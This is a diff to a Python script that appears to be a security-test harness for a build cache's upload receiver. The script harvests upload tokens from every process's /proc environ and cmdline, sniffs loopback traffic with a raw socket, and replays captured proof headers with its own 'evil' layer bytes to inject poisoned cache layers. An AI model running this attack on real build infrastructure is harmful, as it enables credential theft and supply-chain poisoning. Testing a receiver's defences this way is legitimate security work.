@@ -2,7 +2,7 @@
 # process's argv and environment and captures loopback, looking for one build's upload tokens and its requests to
 # the receiver; each request it sees it replays with its own bytes. It prints counts and HTTP statuses only, never
 # what it read. Arguments: receiver port, base64url of the build id, seconds at most, the cache directory's layer path.
-import glob, json, os, re, socket, sys, time, urllib.request, hashlib, io, tarfile
+import glob, json, os, re, socket, sys, threading, time, urllib.request, hashlib, io, tarfile
 
 port, build_b64, seconds, layer_path = int(sys.argv[1]), sys.argv[2].encode(), float(sys.argv[3]), sys.argv[4]
 token_re = re.compile(re.escape(build_b64) + rb'\.[0-9]{1,4}\.[0-9]{6,18}\.[A-Za-z0-9_-]{20,}')
@@ -29,14 +29,11 @@ def put(path, headers, body):
 
 stats = {'proc_reads': 0, 'tokens_in_proc': 0, 'receiver_url_in_proc': 0, 'packets': 0,
          'requests_seen': 0, 'attempts': []}
-raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
-raw.settimeout(0.05)
-seen = set()
 end = time.time() + seconds
-last_scan = 0
-while time.time() < end and not os.path.exists('/tmp/stop'):
-    if time.time() - last_scan > 0.2:
-        last_scan = time.time()
+stopping = lambda: time.time() >= end or os.path.exists('/tmp/stop')
+
+def scan_proc():
+    while not stopping():
         for p in glob.glob('/proc/[0-9]*'):
             for f in ('cmdline', 'environ'):
                 try:
@@ -47,9 +44,42 @@ while time.time() < end and not os.path.exists('/tmp/stop'):
                 stats['proc_reads'] += 1
                 stats['tokens_in_proc'] += len(token_re.findall(data))
                 stats['receiver_url_in_proc'] += len(url_re.findall(data))
+        time.sleep(0.3)
+
+def attack(path, headers):
+    layers, proof = headers.get('x-nixpacks-layers', ''), headers.get('x-nixpacks-proof', '')
+    evil = evil_layer(layer_path)
+    evil_list = 'sha256:%s:%d' % (hashlib.sha256(evil).hexdigest(), len(evil))
+    # Our own layer under the sniffed proof; then the sniffed list and proof with our bytes of the same length.
+    stats['attempts'].append(['own layers, sniffed proof',
+                              put(path, {'X-Nixpacks-Layers': evil_list, 'X-Nixpacks-Proof': proof}, evil)])
+    size = sum(int(x.rsplit(':', 1)[1]) for x in layers.split(',') if ':' in x)
+    body = (evil * (size // len(evil) + 1))[:size]
+    stats['attempts'].append(['sniffed headers, own bytes',
+                              put(path, {'X-Nixpacks-Layers': layers, 'X-Nixpacks-Proof': proof}, body)])
+
+threading.Thread(target=scan_proc, daemon=True).start()
+raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
+try:
+    raw.setsockopt(socket.SOL_SOCKET, 33, 64 << 20)  # SO_RCVBUFFORCE: keep up with everything on loopback
+except OSError:
+    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 64 << 20)
+raw.settimeout(0.2)
+seen = set()
+attackers = []
+draining = False
+while True:
+    if stopping() and not draining:
+        draining = True  # read what the kernel still holds for us, for a few seconds, then stop
+        drain_end = time.time() + 5
+        raw.settimeout(1.0)
+    if draining and time.time() > drain_end:
+        break
     try:
         pkt = raw.recv(262144)
     except socket.timeout:
+        if draining:
+            break
         continue
     if len(pkt) < 54 or pkt[12:14] != b'\x08\x00' or pkt[23] != 6:
         continue
@@ -70,16 +100,9 @@ while time.time() < end and not os.path.exists('/tmp/stop'):
         for line in m.group(2).split(b'\r\n'):
             k, _, v = line.partition(b':')
             headers[k.decode().strip().lower()] = v.decode().strip()
-        layers, proof = headers.get('x-nixpacks-layers', ''), headers.get('x-nixpacks-proof', '')
-        evil = evil_layer(layer_path)
-        evil_list = 'sha256:%s:%d' % (hashlib.sha256(evil).hexdigest(), len(evil))
-        # 1: the sniffed proof over our own layer list; 2: the sniffed list and proof with our bytes;
-        # 3: the same request replayed byte for byte is not possible (no body captured whole): a replay of its
-        # headers with our bytes is 2.
-        stats['attempts'].append(['own layers, sniffed proof',
-                                  put(path, {'X-Nixpacks-Layers': evil_list, 'X-Nixpacks-Proof': proof}, evil)])
-        size = sum(int(x.rsplit(':', 1)[1]) for x in layers.split(',') if ':' in x)
-        body = (evil * (size // len(evil) + 1))[:size]
-        stats['attempts'].append(['sniffed headers, own bytes',
-                                  put(path, {'X-Nixpacks-Layers': layers, 'X-Nixpacks-Proof': proof}, body)])
+        t = threading.Thread(target=attack, args=(path, headers))
+        t.start()
+        attackers.append(t)
+for t in attackers:
+    t.join(30)
 print('NEIGHBOUR ' + json.dumps(stats), flush=True)
